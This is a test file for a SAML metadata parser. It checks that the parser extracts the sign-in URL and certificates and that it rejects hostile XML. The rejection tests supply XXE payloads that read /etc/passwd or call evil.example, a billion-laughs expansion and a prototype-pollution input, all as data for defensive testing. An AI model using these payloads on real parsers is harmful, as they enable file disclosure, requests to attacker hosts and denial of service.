import { describe, expect, it } from "vitest";
import { readSamlMetadata } from "./saml-metadata";

const certificate = "MIIBdummy";

const metadata = (inside = "", before = "") => `<?xml version="1.0"?>${before}
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://idp.example/a?b=1&amp;c=2">
  <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="encryption"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>other</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${certificate}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://idp.example/post"/>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.example/sso"/>
    ${inside}
  </md:IDPSSODescriptor>
</md:EntityDescriptor>`;

it("an identity provider's metadata says where to sign in, and with which certificate", () => {
  expect(readSamlMetadata(metadata())).toEqual({
    entityId: "https://idp.example/a?b=1&c=2",
    signInUrl: "https://idp.example/sso",
    addresses: ["https://idp.example/post", "https://idp.example/sso"],
    certificates: [certificate],
  });
});

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");

describe("hostile XML is refused", () => {
  it.each([
    ["a document type", metadata("", "<!DOCTYPE x>")],
    ["one in small letters", metadata("", "<!doctype x>")],
    ["one with space in it", metadata("", "<!  DOCTYPE x>")],
    ["an entity that reads a file", metadata("&xxe;", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')],
    ["one that asks another host", metadata("&xxe;", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "https://evil.example/">]>')],
    ["a parameter entity", metadata("", '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>')],
    ["a billion laughs", metadata("&l9;", `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`)],
    ["an external subset", metadata("", '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">')],
    ["an entity without a document type", metadata('<!ENTITY x "y">')],
    ["what is longer than any metadata", metadata(`<!-- ${"x".repeat(600_000)} -->`)],
    ["half a document", metadata().slice(0, 400)],
    ["HTML", "<html><body>Sign in</body></html>"],
    ["nothing", ""],
    ["a service provider's", metadata().replaceAll("IDPSSODescriptor", "SPSSODescriptor")],
    ["no certificate", metadata().replaceAll("X509Certificate", "X509Other")],
    ["no address", metadata().replaceAll("SingleSignOnService", "SingleLogoutService")],
    ["a prototype to pollute", metadata("<__proto__><polluted>1</polluted></__proto__>").slice(0, 200)],
  ])("%s", (_, xml) => {
    const began = performance.now();
    expect(readSamlMetadata(xml)).toBeTypeOf("string");
    expect(performance.now() - began).toBeLessThan(500);
    expect({}).not.toHaveProperty("polluted");
  });

  it("entities that XML itself has stay as they were written", () => {
    const read = readSamlMetadata(metadata().replace("https://idp.example/sso", "https://idp.example/&#x65;vil"));
    expect(read).toMatchObject({ signInUrl: "https://idp.example/&#x65;vil" });
  });
});

it("an address under any prefix, and of any endpoint, is among those that are named", () => {
  const hidden =
    '<x:SingleLogoutService xmlns:x="urn:x" x:Location="https://a.example" ResponseLocation="https://b.example"/>';
  const read = readSamlMetadata(
    metadata(hidden).replace('POST" Location', 'POST" x:Location="https://c.example" Location'),
  );
  expect(read).toMatchObject({
    addresses: expect.arrayContaining(
      ["a", "b", "c", "idp"].map((name) => expect.stringContaining(`https://${name}.example`)),
    ),
  });
});
